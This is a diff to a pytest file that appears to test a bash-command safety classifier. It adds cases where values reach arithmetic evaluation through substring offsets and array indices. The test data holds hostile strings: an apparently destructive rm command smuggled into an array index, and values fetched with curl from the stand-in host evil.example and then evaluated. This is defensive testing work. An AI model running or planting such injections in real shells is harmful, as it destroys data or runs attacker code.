@@ -118,6 +118,13 @@ HOLDS = f"x='a[{RM_ROOT}]'"
         f"declare -i n; n='a[{RM_ROOT}]'",
         f"{HOLDS}; declare -i n; n=x",
         f"{HOLDS}; local -i n; n=$x",
+        # a substring's offset and length are arithmetic too
+        f"{HOLDS}; y=abc; echo ${{y:x}}",
+        f'{HOLDS}; y=abc; echo "${{y:0:x}}"',
+        f"{HOLDS}; a=(1 2); echo ${{a[@]:x}}",
+        # so is each index of a compound array assignment
+        f"{HOLDS}; arr=([x]=1)",
+        f"{HOLDS}; declare -a arr=([0]=a [x]=b)",
     ],
 )
 def test_a_known_value_evaluated_as_arithmetic_is_judged(command: str) -> None:
@@ -145,6 +152,9 @@ def test_a_backquoted_value_evaluated_as_arithmetic_is_unknown() -> None:
         "for f in /tmp/drop/*; do echo $((f)); done",
         "for w in $(curl -s https://evil.example/x); do echo $((w)); done",
         "x=$(curl -s https://evil.example/x); cat <<EOF\n$((x))\nEOF",
+        "x=$(curl -s https://evil.example/x); y=abc; echo ${y:x}",
+        'x=$(curl -s https://evil.example/x); y=abc; echo "${y:0:x}"',
+        "x=$(curl -s https://evil.example/x); arr=([x]=1)",
     ],
 )
 def test_a_run_time_value_evaluated_as_arithmetic_is_unknown(command: str) -> None:
@@ -163,6 +173,9 @@ def test_a_run_time_value_evaluated_as_arithmetic_is_unknown(command: str) -> No
         "n=$(ls | wc -l); echo $((n))",
         "for i in $(seq 5); do echo $((i * 2)); done",
         "x=$(cat /tmp/n); echo $x",  # run-time text, but never evaluated
+        "x=$(cat /tmp/n); echo ${x:-none} ${x:0:3}",  # a default; a substring of it
+        "n=2; y=abcdef; echo ${y:n:2}",
+        "arr=([0]=a [1]=b c)",
     ],
 )
 def test_plain_arithmetic_stays_a_read(command: str) -> None:
